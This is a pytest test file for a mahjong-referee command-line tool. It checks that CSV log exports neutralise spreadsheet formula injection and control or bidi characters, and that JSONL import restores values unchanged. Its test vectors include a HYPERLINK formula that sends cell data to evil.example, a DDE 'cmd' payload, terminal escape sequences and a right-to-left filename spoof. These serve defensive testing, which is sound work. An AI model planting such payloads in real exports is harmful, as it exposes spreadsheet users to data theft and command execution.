"""CSV export is a spreadsheet: every cell a plain value (no JSON), no cell a spreadsheet would
run as a formula, no control or bidi character raw (issue 19 item 8, issue 18). The log goes
from one machine to another as JSONL, which brings every hostile value back whole; a CSV is
refused by `log import` in one line that says so."""
from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest
from typer.testing import CliRunner

from referee.cli import app

HOUSE = Path(__file__).resolve().parent / "rulesets" / "house"
DEAD = ["rule", "picked-wrong-end", "-a", "discard_claimed=no", "-s", "picker=West", "--no-input", "--ruleset", str(HOUSE)]
PAYS = ["rule", "picked-wrong-end", "-a", "discard_claimed=yes", "-a", "mahjong_valid=yes", "-s", "picker=West",
        "-s", "winner=East", "-a", "hand_value=25", "--no-input", "--ruleset", str(HOUSE)]
RAW = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

VECTORS = {
    "formula": "=1+1",
    "hyperlink": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "escape": "\x1b]0;owned\x07Table",
    "clear screen": "\x1b[2J\x1b[H",
    "right-to-left override": "Ruth\u202egnp.exe",
    "isolate": "\u2067Ann\u2069",
    "leading quote": "'quoted",
    "json": '{"a": [1]}',
}


def invoke(*args: str | Path) -> Any:
    r = CliRunner().invoke(app, [str(a) for a in args])
    assert r.exception is None or isinstance(r.exception, SystemExit), r.exception
    return r


def sheet(db: Path, tmp_path: Path) -> list[dict[str, str]]:
    path = tmp_path / "out.csv"
    assert invoke("log", "export", "-o", path, "--with-origin", "--db", db).exit_code == 0
    return list(csv.DictReader(io.StringIO(path.read_text(encoding="utf-8"))))


@pytest.mark.parametrize("value", VECTORS.values(), ids=VECTORS.keys())
@pytest.mark.parametrize("where", ["--table", "--event", "--judge", "--player"])
def test_a_hostile_value_goes_out_inert_and_comes_back_whole(tmp_path: Path, value: str, where: str) -> None:
    db = tmp_path / "r.db"
    option = [where, f"West={value}" if where == "--player" else value]
    assert invoke(*DEAD, *option, "--db", db).exit_code == 0
    out = tmp_path / "out.csv"
    assert invoke("log", "export", "-o", out, "--with-origin", "--db", db).exit_code == 0
    text = out.read_text(encoding="utf-8")
    assert not RAW.search(text.replace("\n", "")), "a control or bidi character went out raw"
    for row in csv.reader(io.StringIO(text)):
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    before = json.loads(invoke("log", "list", "--json", "--db", db).stdout)
    lines = tmp_path / "out.jsonl"
    assert invoke("log", "export", "-o", lines, "--with-origin", "--db", db).exit_code == 0
    other = tmp_path / "other.db"
    assert invoke("log", "import", lines, "--db", other).exit_code == 0
    assert json.loads(invoke("log", "list", "--json", "--db", other).stdout) == before


def test_no_cell_is_json_and_money_has_a_column_per_seat(tmp_path: Path) -> None:
    db = tmp_path / "r.db"
    assert invoke(*DEAD, "--player", "West=Ruth", "--table", "3", "--db", db).exit_code == 0
    assert invoke(*PAYS, "--player", "East=Zoë", "--db", db).exit_code == 0
    rid = json.loads(invoke("log", "list", "--json", "--db", db).stdout)[0]["id"]
    assert invoke("log", "withdraw", rid, "--reason", "misread", "--by", "Ann", "--db", db).exit_code == 0
    rows = sheet(db, tmp_path)
    assert len(rows) == 2
    for row in rows:
        for name, cell in row.items():
            try:
                parsed = json.loads(cell)
            except ValueError:
                continue
            assert not isinstance(parsed, (dict, list)), (name, cell)
    dead, pays = sorted(rows, key=lambda r: r["payments"])
    assert dead["dead"] == "West (Ruth)" and dead["west_player"] == "Ruth" and dead["payments"] == ""
    assert dead["east_net"] == dead["west_net"] == ""  # nobody paid: nothing to sum
    nets = {seat: int(pays[f"{seat}_net"]) for seat in ("east", "south", "west", "north")}
    assert nets == {"east": 100, "south": 0, "west": -100, "north": 0} and sum(nets.values()) == 0
    assert pays["payments"] == "West pays East (Zoë) 100 (4 x 25)" and pays["unit"] == "cents"
    assert pays["roles"] == "picker: West; winner: East"
    assert "Was the picker's discard claimed for Mah Jongg? yes" in pays["answers"]
    assert any(r["withdrawn_by"] == "Ann" and r["withdrawn_reason"] == "misread" for r in rows)


def test_a_csv_is_refused_by_import_in_one_line_naming_jsonl(tmp_path: Path) -> None:
    db = tmp_path / "r.db"
    assert invoke(*DEAD, "--db", db).exit_code == 0
    out = tmp_path / "rulings.csv"
    assert invoke("log", "export", "-o", out, "--db", db).exit_code == 0
    other = tmp_path / "other.db"
    r = invoke("log", "import", out, "--db", other)
    assert r.exit_code != 0 and len(r.stderr.strip().splitlines()) == 1, r.stderr
    assert "rulings.csv:1:1" in r.stderr and "jsonl" in r.stderr
    assert not other.exists()


def test_points_have_a_column_per_seat_and_an_open_amount_says_so() -> None:
    """A points ruleset's score sheet: what each seat scored, summable; nothing invented where
    an amount was left open."""
    from referee.store.record import Ruling
    from referee.store.sheet import row

    base = dict(id="01" + "a" * 24, recorded_at="2026-05-01T10:00:00.000Z", ruleset_id="tournament-mahjcon",
                ruleset_version="1", ruleset_hash="0" * 12, situation="misnamed-discard", ruled_in="misnamed-discard",
                ruling_id="MCN-MND-5", game="ends", players={"South": "Bea"}, outcome={"unit": "points"})
    scored = row(Ruling(**base, points=[{"to": "South", "points": 50}, {"to": "West", "points": -25}]))
    assert [scored[f"{s}_points"] for s in ("east", "south", "west", "north")] == [0, 50, -25, 0]
    assert scored["points"] == "South (Bea) +50; West -25" and scored["east_net"] == "" and scored["unit"] == "points"
    opened = row(Ruling(**base, points=[{"to": "South", "points": None}],
                        payments=[{"from": "West", "to": "South", "amount": None, "formula": "2 x hand value"}]))
    assert opened["south_points"] == "open" and opened["south_net"] == opened["west_net"] == "open"
    assert opened["east_net"] == 0 and "West pays South (Bea) an amount left open" in opened["payments"]


def test_answers_are_the_choices_words_from_the_rules_the_ruling_was_made_under(tmp_path: Path) -> None:
    """A choice is stored as its value ('one'); the sheet says what it means, in the words of the
    rules recorded with the ruling (the log's snapshot), even after the files have changed."""
    import shutil

    rules = tmp_path / "house"
    shutil.copytree(HOUSE, rules)
    db = tmp_path / "r.db"
    made = invoke("rule", "false-call", "-a", "others_acted=one", "-s", "declarer=East", "-s", "exposer=South",
                  "--no-input", "--ruleset", rules, "--db", db)
    assert made.exit_code == 0, made.output
    facts = rules / "situations" / "false-call.yaml"
    facts.write_text(facts.read_text(encoding="utf-8").replace("One player threw in", "Somebody else"), encoding="utf-8")
    assert invoke(*DEAD, "--db", db).exit_code == 0  # a yes/no answer stays yes or no
    by_ruling = {row["ruling_id"]: row for row in sheet(db, tmp_path)}
    assert by_ruling["HF-2"]["answers"] == "What did the other players do before the hand was checked? One player threw in"
    assert [row["answers"][-4:] for rid, row in by_ruling.items() if rid != "HF-2"] == ["? no"]
